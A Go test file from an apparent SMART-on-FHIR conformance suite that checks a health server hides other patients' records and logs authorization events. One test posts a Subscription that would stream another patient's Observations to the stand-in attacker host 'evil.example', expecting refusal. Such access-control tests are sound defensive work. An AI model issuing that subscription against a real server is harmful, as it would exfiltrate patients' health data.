package security

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strings"

	"github.com/mandate-health/mandate/conformance/kit"
)

// compartment holds the rows about whose record a resource is, and further ones
// about interactions.
func compartment() []kit.Row {
	needs := kit.Login | kit.Upstream
	return []kit.Row{
		{ID: "SMART CMP-10", Title: "what the patient wrote about somebody else is not shown", Needs: needs, Run: compWrote},
		{ID: "SMART CMP-11", Title: "what names two patients is not shown", Needs: needs, Run: compTwo},
		{ID: "SMART CMP-13", Title: "a Provenance that also names another patient is not shown", Needs: needs, Run: compProvenance},
		{ID: "SMART CMP-14", Title: "what is about a group or a device is not shown", Needs: needs, Run: compNoPatient},
		{ID: "SMART CMP-15", Title: "a Device of another patient is not shown", Needs: needs, Run: compDevice},
		{ID: "SMART TRP-13", Title: "a contained resource comes with its container, and by itself not at all", Needs: needs, Run: contained},
		{ID: "SMART M-06", Title: "search alone shows whole entries and reads nothing", Needs: needs, Run: searchAlone},
		{ID: "SMART M-11", Title: "an update that would create is refused to an app and done for a service", Needs: needs | kit.Backend, Run: updateCreates},
		{ID: "SMART M-14", Title: "a conditional reference in a transaction needs the right to search", Needs: needs, Run: conditionalReference},
		{ID: "SMART M-22", Title: "an app creates no subscription", Needs: needs, Run: noSubscription},
		{ID: "SMART BP-05", Title: "launch, consent, tokens, introspection, revocation and denial are in the log", Needs: needs | kit.Symmetric | kit.Admin, Run: everyEvent},
	}
}

// behindPut writes a resource at the server behind for the time of a row.
func behindPut(ctx context.Context, t *kit.Target, resource map[string]any) (remove func(), err error) {
	raw, err := json.Marshal(resource)
	if err != nil {
		return nil, err
	}
	path := fmt.Sprintf("%s/%s/%s", t.Upstream, resource["resourceType"], resource["id"])
	res, err := t.Do(ctx, kit.Request{Method: http.MethodPut, URL: path, Type: "application/fhir+json", Body: strings.NewReader(string(raw))})
	if err != nil {
		return nil, err
	}
	if res.Status >= 300 {
		return nil, fmt.Errorf("writing behind: %s", res)
	}
	return func() { _, _ = t.Do(ctx, kit.Request{Method: http.MethodDelete, URL: path}) }, nil
}

func ref(to string) map[string]any { return map[string]any{"reference": to} }

// hidden plants resources and expects that neither a read nor a search shows
// them.
func hidden(ctx context.Context, t *kit.Target, resources func(w world) []map[string]any) error {
	w, err := enter(ctx, t, "patient/*.rs")
	if err != nil {
		return err
	}
	var c kit.Check
	for _, resource := range resources(w) {
		typ, id := fmt.Sprint(resource["resourceType"]), fmt.Sprint(resource["id"])
		resource["meta"] = map[string]any{"security": []any{map[string]any{"system": "http://terminology.hl7.org/CodeSystem/v3-Confidentiality", "code": "N"}}}
		remove, err := behindPut(ctx, t, resource)
		if !c.Note(err) {
			continue
		}
		w.get(ctx, &c, typ+"/"+id, http.StatusForbidden, http.StatusNotFound)
		for _, query := range []string{"", "_id=" + id} {
			res, err := t.FHIR(ctx, w.token, typ+"?_count=200&"+query)
			if c.Note(err) {
				c.That(!slices.ContainsFunc(res.Entries(), func(e kit.Entry) bool { return e.ID == id }), "a search shows %s/%s", typ, id)
			}
		}
		remove()
	}
	return c.Err()
}

func compWrote(ctx context.Context, t *kit.Target) error {
	return hidden(ctx, t, func(w world) []map[string]any {
		performed := note(w.other)
		performed["id"], performed["performer"] = "selftest-performed", []any{ref("Patient/" + w.me)}
		return []map[string]any{performed, {
			"resourceType": "Coverage", "id": "selftest-coverage", "status": "active", "beneficiary": ref("Patient/" + w.other),
			"policyHolder": ref("Patient/" + w.me), "payor": []any{ref("Patient/" + w.me)},
		}}
	})
}

func compTwo(ctx context.Context, t *kit.Target) error {
	return hidden(ctx, t, func(w world) []map[string]any {
		member := func(id string) map[string]any { return map[string]any{"entity": ref("Patient/" + id)} }
		return []map[string]any{
			{"resourceType": "Group", "id": "selftest-group", "type": "person", "actual": true, "member": []any{member(w.me), member(w.other)}},
			{"resourceType": "Appointment", "id": "selftest-appointment", "status": "booked", "participant": []any{
				map[string]any{"actor": ref("Patient/" + w.me), "status": "accepted"}, map[string]any{"actor": ref("Patient/" + w.other), "status": "accepted"},
			}},
		}
	})
}

func compProvenance(ctx context.Context, t *kit.Target) error {
	mine, err := t.First(ctx, "Observation?_count=1&_security=http://terminology.hl7.org/CodeSystem/v3-Confidentiality|N&patient=Patient/"+t.Person(t.Patient()).Patients[0])
	if err != nil {
		return err
	}
	return hidden(ctx, t, func(w world) []map[string]any {
		return []map[string]any{{
			"resourceType": "Provenance", "id": "selftest-provenance", "recorded": "2026-01-02T03:04:05Z",
			"target": []any{ref("Observation/" + mine), ref("Patient/" + w.other)}, "agent": []any{map[string]any{"who": ref("Practitioner/dr-hale")}},
		}}
	})
}

func compNoPatient(ctx context.Context, t *kit.Target) error {
	return hidden(ctx, t, func(w world) []map[string]any {
		group, device := note(w.me), note(w.me)
		group["id"], group["subject"] = "selftest-of-group", ref("Group/lakeside-panel")
		device["id"], device["subject"] = "selftest-of-device", ref("Device/selftest")
		return []map[string]any{group, device}
	})
}

func compDevice(ctx context.Context, t *kit.Target) error {
	return hidden(ctx, t, func(w world) []map[string]any {
		return []map[string]any{{"resourceType": "Device", "id": "selftest-device", "status": "active", "patient": ref("Patient/" + w.other)}}
	})
}

// contained plants a MedicationRequest with its Medication inside.
func contained(ctx context.Context, t *kit.Target) error {
	var c kit.Check
	w, err := enter(ctx, t, "patient/Patient.rs patient/MedicationRequest.rs")
	if err != nil {
		return err
	}
	remove, err := behindPut(ctx, t, map[string]any{
		"resourceType": "MedicationRequest", "id": "selftest-contained", "status": "active", "intent": "order", "subject": ref("Patient/" + w.me),
		"meta":                map[string]any{"security": []any{map[string]any{"system": "http://terminology.hl7.org/CodeSystem/v3-Confidentiality", "code": "N"}}},
		"contained":           []any{map[string]any{"resourceType": "Medication", "id": "inside", "code": map[string]any{"text": "a test"}}},
		"medicationReference": ref("#inside"),
	})
	if err != nil {
		return err
	}
	defer remove()
	res := w.get(ctx, &c, "MedicationRequest/selftest-contained", http.StatusOK)
	inside, _ := res.JSON()["contained"].([]any)
	c.That(len(inside) == 1, "the container has %d contained resources", len(inside))
	w.get(ctx, &c, "Medication/inside", http.StatusForbidden, http.StatusNotFound)
	w.get(ctx, &c, "Medication?_count=5", http.StatusForbidden)
	return c.Err()
}

func searchAlone(ctx context.Context, t *kit.Target) error {
	var c kit.Check
	w, err := enter(ctx, t, "patient/Patient.rs patient/Observation.s")
	if err != nil {
		return err
	}
	res := w.get(ctx, &c, "Observation?_count=1&patient="+w.me, http.StatusOK)
	if c.That(len(res.Entries()) > 0, "the search shows nothing") {
		e := res.Entries()[0]
		c.That(e.Resource["status"] != nil && e.Resource["code"] != nil, "the entry is not whole")
		w.get(ctx, &c, "Observation/"+e.ID, http.StatusForbidden)
	}
	return c.Err()
}

func updateCreates(ctx context.Context, t *kit.Target) error {
	var c kit.Check
	w, err := enter(ctx, t, "patient/Patient.rs patient/Observation.u")
	if err != nil {
		return err
	}
	body := note(w.me)
	body["id"] = "selftest-upsert"
	w.send(ctx, &c, http.MethodPut, "Observation/selftest-upsert", body, http.StatusNotFound)
	token, err := system(ctx, t, t.Client("backend"), "system/Observation.u")
	if !c.Note(err) {
		return c.Err()
	}
	res, err := t.Write(ctx, token, http.MethodPut, "Observation/selftest-upsert", body, nil)
	judge(&c, res, err, http.StatusCreated)
	_, err = t.Do(ctx, kit.Request{Method: http.MethodDelete, URL: t.Upstream + "/Observation/selftest-upsert"})
	c.Note(err)
	token, err = system(ctx, t, t.Client("backend"), "system/Observation.rs")
	if c.Note(err) {
		res, err = t.Write(ctx, token, http.MethodPut, "Observation/selftest-upsert", body, nil)
		judge(&c, res, err, http.StatusForbidden)
	}
	return c.Err()
}

func conditionalReference(ctx context.Context, t *kit.Target) error {
	var c kit.Check
	w, err := enter(ctx, t, "patient/Observation.c")
	if err != nil {
		return err
	}
	before := count(ctx, t, &c, w.me)
	body := note(w.me)
	body["performer"] = []any{ref("Practitioner?identifier=x")}
	exists := note(w.me)
	for what, entry := range map[string]map[string]any{
		"a conditional reference": {"resource": body, "request": map[string]any{"method": "POST", "url": "Observation"}},
		"ifNoneExist":             {"resource": exists, "request": map[string]any{"method": "POST", "url": "Observation", "ifNoneExist": "code=8867-4"}},
	} {
		res, err := t.Write(ctx, w.token, http.MethodPost, "", map[string]any{"resourceType": "Bundle", "type": "transaction", "entry": []any{entry}}, nil)
		if c.Note(err) {
			c.That(res.Status >= 400 && res.Status < 500, "%s: %s", what, res)
		}
	}
	c.That(before == count(ctx, t, &c, w.me), "a refused transaction wrote something")
	return c.Err()
}

func noSubscription(ctx context.Context, t *kit.Target) error {
	var c kit.Check
	w, err := enter(ctx, t, "patient/Patient.rs patient/*.cruds")
	if err != nil {
		return err
	}
	w.send(ctx, &c, http.MethodPost, "Subscription", map[string]any{
		"resourceType": "Subscription", "status": "requested", "reason": "a test", "criteria": "Observation?patient=" + w.other,
		"channel": map[string]any{"type": "rest-hook", "endpoint": "https://evil.example/hook", "payload": "application/fhir+json"},
	}, http.StatusForbidden, http.StatusNotFound, http.StatusMethodNotAllowed)
	return c.Err()
}

// everyEvent goes through an app's life and looks for each act in the log.
func everyEvent(ctx context.Context, t *kit.Target) error {
	client := t.Client("symmetric")
	g, err := t.Launch(ctx, kit.Launch{Client: client, Scope: "launch/patient offline_access patient/Patient.rs", Visit: kit.Visit{Person: t.Patient()}})
	if err != nil {
		return err
	}
	var c kit.Check
	_, err = t.Authorize(ctx, t.AuthorizeRequest(client, "launch/patient patient/Patient.rs", t.NewVerifier()), kit.Visit{Person: t.Patient(), Deny: true})
	c.Note(err)
	refreshed, err := t.Refresh(ctx, client, g.RefreshToken(), "")
	c.Note(err)
	_, err = t.Introspect(ctx, client, g.Access())
	c.Note(err)
	_, err = t.FHIR(ctx, g.Access(), "Condition?patient="+g.Patient())
	c.Note(err)
	_, err = t.FHIR(ctx, g.Access(), "Patient/"+g.Patient())
	c.Note(err)
	_, err = t.RevokeToken(ctx, client, refreshed.Text("refresh_token"))
	c.Note(err)
	res, err := t.Do(ctx, kit.Request{URL: strings.TrimSuffix(t.AdminAPI.URL, "/") + "/audit?client_id=" + client.ID, Bearer: t.AdminAPI.Token})
	if !c.Note(err) || !c.That(res.Status == http.StatusOK, "%s", res) {
		return c.Err()
	}
	body := string(res.Body)
	for _, kind := range []string{
		"authorize.requested", "authorize.refused", "grant.created", "token.issued", "token.introspected", "token.revoked", "fhir.read", "fhir.refused",
	} {
		c.That(strings.Contains(body, `"`+kind+`"`), "the log has no %s", kind)
	}
	return c.Err()
}
